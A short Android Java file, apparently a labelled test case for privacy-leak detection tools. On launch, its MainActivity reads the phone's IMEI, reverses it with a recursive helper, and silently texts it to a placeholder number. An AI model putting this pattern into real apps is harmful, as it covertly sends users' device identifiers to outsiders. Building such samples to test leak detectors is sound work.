// about       A recursive method turns the value round, character by character.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  private static String turn(String text) {
    if (text.isEmpty()) {
      return "|";
    }
    // The first character goes to the end.
    return turn(text.substring(1)) + text.charAt(0);
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String text = turn(phone.getDeviceId());
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
